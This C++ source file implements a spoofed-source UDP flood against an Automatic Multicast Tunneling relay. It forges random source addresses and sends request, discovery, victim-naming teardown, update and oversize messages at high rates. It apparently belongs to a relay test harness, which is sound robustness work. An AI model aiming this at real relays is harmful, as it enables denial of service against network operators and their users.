/// AMT messages from addresses that are not the sender's.

#include <array>
#include <cstdio>

#include "attacks.hh"
#include "base/random.hh"
#include "forger.hh"
#include "sys/clock.hh"
#include "wire/message.hh"

namespace amt::attack {
namespace {

constexpr std::uint16_t kFirstPort = 1024;
/// Octets of a message that is larger than anything of the protocol.
constexpr std::size_t kOversizeOctets = 1400;

enum class Kind : std::uint8_t { kRequest, kDiscovery, kTeardown, kUpdate, kOversize, kMixed };

Kind kind_of(const std::string& word) {
  if (word == "request") return Kind::kRequest;
  if (word == "discovery") return Kind::kDiscovery;
  if (word == "teardown") return Kind::kTeardown;
  if (word == "update") return Kind::kUpdate;
  if (word == "oversize") return Kind::kOversize;
  if (word == "mixed") return Kind::kMixed;
  fail("no such message", word);
}

/// One address, or any: IPv4 but for 0/8, 10/8, 127/8 and 224/3, which the tests' networks or the kernel keep for
/// themselves; IPv6 of 2a00::/12.
class Sources {
 public:
  Sources(const Options& options, Family family, Random& random) : random_(random), family_(family) {
    if (options.text("from", "any") != "any") fixed_ = options.addresses("from");
  }
  IpAddress next() {
    if (!fixed_.empty()) return fixed_[next_++ % fixed_.size()];
    if (family_ == Family::kIpv6) {
      std::array<std::byte, 16> octets{};
      random_.fill(octets);
      octets[0] = std::byte{0x2a};
      octets[1] &= std::byte{0x0f};
      return IpAddress::from_v6(octets);
    }
    for (;;) {
      const std::uint32_t address = random_.u32();
      const std::uint32_t first = address >> 24;
      if (first != 0 && first != 10 && first != 127 && first < 224) return IpAddress::from_v4(address);
    }
  }

 private:
  Random& random_;
  Family family_;
  std::vector<IpAddress> fixed_;
  std::size_t next_ = 0;
};

struct Writer {
  Random& random;
  /// Whom a Teardown names.
  Endpoint victim;
  std::array<std::byte, kOversizeOctets> buffer{};

  wire::ResponseMac mac() {
    wire::ResponseMac out;
    random.fill(out.octets);
    return out;
  }
  Bytes write(Kind kind) {
    if (kind == Kind::kMixed) kind = static_cast<Kind>(random.below(static_cast<std::uint64_t>(Kind::kMixed)));
    ByteWriter out(buffer);
    switch (kind) {
      case Kind::kRequest:
        wire::Request{.nonce = {random.u32()},
                      .protocol = random.below(2) == 0 ? wire::Protocol::kIgmp : wire::Protocol::kMld}
            .write(out);
        break;
      case Kind::kDiscovery:
        wire::RelayDiscovery{{random.u32()}}.write(out);
        break;
      case Kind::kTeardown:
        wire::Teardown{mac(), {random.u32()}, {victim}}.write(out);
        break;
      case Kind::kUpdate:
        wire::MembershipUpdate{mac(), {random.u32()}, Bytes(buffer).last(40)}.write(out);
        break;
      case Kind::kOversize:
        wire::Request{.nonce = {random.u32()}}.write(out);
        return buffer;
      case Kind::kMixed:
        break;
    }
    return out.output();
  }
};

}  // namespace

int run_flood(const Options& options) {
  SeededRandom random(options.number("seed", 1));
  const IpAddress relay = options.address("relay");
  Sources sources(options, relay.family(), random);
  Writer writer{random, {options.has("victim") ? options.address("victim") : relay, 0}, {}};
  const Kind kind = kind_of(options.text("what", "request"));
  const bool fixed_port = options.has("port");
  const auto port = static_cast<std::uint16_t>(options.number("port", 0));
  const std::uint32_t per_second = options.number("per_second", 150'000);
  Forger forger(relay);
  const Instant start = monotonic_now();
  const Instant end = start + options.milliseconds("milliseconds", 10'000);
  const Duration interval = Duration(std::chrono::seconds(1)) * Forger::kBatch / per_second;
  for (Instant due = start; due < end; due += interval) {
    while (monotonic_now() < due) {
    }
    if (monotonic_now() >= end) break;
    for (std::size_t i = 0; i < Forger::kBatch; ++i) {
      const auto from = fixed_port ? port : static_cast<std::uint16_t>(kFirstPort + random.below(0xffff - kFirstPort));
      writer.victim.port = static_cast<std::uint16_t>(kFirstPort + random.below(0xffff - kFirstPort));
      forger.add_udp(sources.next(), from, kAmtPort, writer.write(kind));
    }
    forger.flush();
  }
  const double seconds = std::chrono::duration<double>(monotonic_now() - start).count();
  std::printf("{\"sent\": %zu, \"octets\": %zu, \"per_second\": %.0f}\n", forger.sent(), forger.sent_octets(),
              static_cast<double>(forger.sent()) / seconds);
  return 0;
}

}  // namespace amt::attack
